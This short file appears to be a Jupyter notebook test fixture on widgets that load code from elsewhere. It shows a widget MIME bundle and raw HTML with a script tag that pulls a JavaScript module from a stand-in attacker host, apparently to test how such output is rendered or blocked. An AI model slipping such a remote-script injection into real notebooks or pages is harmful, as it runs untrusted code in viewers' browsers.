# ---
# title: Widgets that load code from elsewhere.
# ---
# %% added
from IPython.display import display

display({"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}, "text/plain": "widget"}, raw=True)
display({"text/html": "<script type=module src=http://evil.invalid/m.js></script>"}, raw=True)
